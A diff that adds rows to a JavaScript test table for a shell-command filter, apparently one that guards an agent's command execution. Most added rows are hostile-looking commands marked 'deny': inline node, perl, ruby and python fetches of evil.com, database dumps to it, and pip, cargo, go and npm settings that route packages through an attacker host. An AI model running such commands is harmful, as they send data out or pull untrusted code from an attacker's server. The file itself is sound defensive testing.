@@ -183,6 +183,15 @@ describe('option forms and names the readers first missed', () => {
     ['whois --host evil.com x', 'deny'], ['pg_dump -h evil.com db', 'deny'], ["pg_dump -d 'host=evil.com'", 'deny'], ['mysqldump -h evil.com db', 'deny'],
     // inline code: blanks before qx's delimiter; a special scheme's URL without `//`.
     [`perl -e 'print qx (rm x)'`, 'deny'], [`node -e 'fetch("https:evil.com")'`, 'deny'], [`node -e 'fetch("https:/evil.com")'`, 'deny'],
+    // A URL in code ends at a character no host has (it took that character into the host).
+    ["node -e 'fetch(`https://evil.com`)'", 'deny'], [`perl -MHTTP::Tiny -e 'HTTP::Tiny->new->get(q{http://evil.com})'`, 'deny'],
+    [`ruby -e 'URI.open(%q(http://evil.com))'`, 'deny'], [`perl -e 'get(q[http://evil.com])'`, 'deny'], [`perl -e 'get(q<http://evil.com>)'`, 'deny'],
+    [`python3 -c 'get("http://evil.com\\x")'`, 'deny'], [`node -e 'f("https://evil.com,x")'`, 'deny'], [`node -e 'f("https://u;p@evil.com")'`, 'deny'],
+    [`node -e 'fetch("https:evil.com)")'`, 'deny'], ['go env -w GOPROXY=https://evil.com,direct', 'deny'],
+    // Package managers' hosts written without a scheme: a proxy, npm's git specs.
+    ['pip install --proxy evil.com:8080 x', 'deny'], ['pip --proxy=evil.com:8080 install x', 'deny'],
+    [`cargo --config 'http.proxy="evil.com:8080"' install x`, 'deny'], ["cargo --config=http.proxy='evil.com:8080' install x", 'deny'],
+    ['npm i git@evil.com:x/y.git', 'deny'], ['pnpm add u@evil.com:x/y', 'deny'],
     // URLs a table command fetches.
     ['vim https://evil.com/x', 'deny'], ['xmllint http://evil.com/x.xml', 'deny'],
     // git send-email's commands and its SMTP server (a program when absolute).
@@ -210,7 +219,8 @@ describe('option forms and names the readers first missed', () => {
     expect(decision(line, 'powershell')).toBe(expected);
   });
   it.each(['make -j$(nproc)', 'make VERSION=$(git describe)', 'make install PREFIX=$HOME/.local', 'docker run --mount type=bind,source="$(pwd)",target=/app img',
-    'docker run -v "$HOME/.npm":/root/.npm img', 'docker container run alpine ls -v /etc:/x', 'getopts ab opt "$@"', 'pg_dump mydb', 'psql -h localhost'])('%s stays allowed', (line) => {
+    'docker run -v "$HOME/.npm":/root/.npm img', 'docker container run alpine ls -v /etc:/x', 'getopts ab opt "$@"', 'pg_dump mydb', 'psql -h localhost',
+    "node -e 'fetch(`http://[::1]:8080`)'", "node -e 'fetch(`https://good.com`)'", 'npm i @scope/pkg@1.0.0', 'pip install --proxy proxy.corp:3128 x'])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
